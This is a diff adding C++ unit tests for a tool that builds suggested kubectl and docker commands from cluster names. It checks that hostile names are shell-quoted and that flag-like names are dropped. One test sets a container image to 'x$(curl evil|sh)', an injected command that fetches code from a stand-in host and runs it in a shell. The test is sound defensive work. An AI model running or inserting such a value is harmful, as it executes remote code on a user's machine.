@@ -46,6 +46,37 @@ TEST(SuggestionNames, FillsThePodItsNamespaceContainerNodeAndImage) {
       "--container=app -- sh");
 }
 
+// Names from a file or a hostile cluster: a command stays one word per name, and what would
+// run on the machine of whoever pastes it is quoted.
+TEST(SuggestionNames, ANameAShellWouldReadIsQuotedAndAFlagLikeOneIsDropped) {
+  kube::PodFacts pod = pod_owned_by("", "");
+  kube::ContainerFacts hostile = container(kube::TerminationSlot::kLast);
+  hostile.image = "x$(curl evil|sh)";
+  hostile.name = "it's";
+  auto step = with_names({"", "docker run --rm IMAGE ls; kubectl logs POD -c CONTAINER", ""},
+                         names_of(pod, hostile));
+  ASSERT_TRUE(step);
+  EXPECT_EQ(step->command,
+            "docker run --rm 'x$(curl evil|sh)' ls; kubectl logs api-5b8c9d7f6-k3vnp -n shop -c "
+            "'it'\\''s'");
+  hostile.name = "--kubeconfig=/tmp/x";
+  EXPECT_EQ(
+      with_names({"Read its log", "kubectl logs POD -c CONTAINER", ""}, names_of(pod, hostile)),
+      (NextStep{"Read its log", "", ""}));
+}
+
+TEST(SuggestionNames, TheDeploymentReadFromTheClusterIsTheOwnerTheStepsName) {
+  kube::PodFacts pod = pod_owned_by("ReplicaSet", "hand-made");
+  kube::WorkloadOwner owner;
+  owner.kind = "Deployment";
+  owner.name = "api";
+  pod.workload = owner;
+  EXPECT_EQ(with_names({"", "kubectl rollout history CONTROLLER", ""},
+                       names_of(pod, container(kube::TerminationSlot::kLast)))
+                ->command,
+            "kubectl rollout history deployment/api -n shop");
+}
+
 TEST(SuggestionNames, AReplicaSetIsItsDeploymentOnlyWhenThePodTemplateHashMatches) {
   EXPECT_EQ(owner_of(pod_owned_by("ReplicaSet", "api-5b8c9d7f6")), "deployment/api");
   EXPECT_EQ(owner_of(pod_owned_by("ReplicaSet", "api-7c9f8")), "replicaset/api-7c9f8");
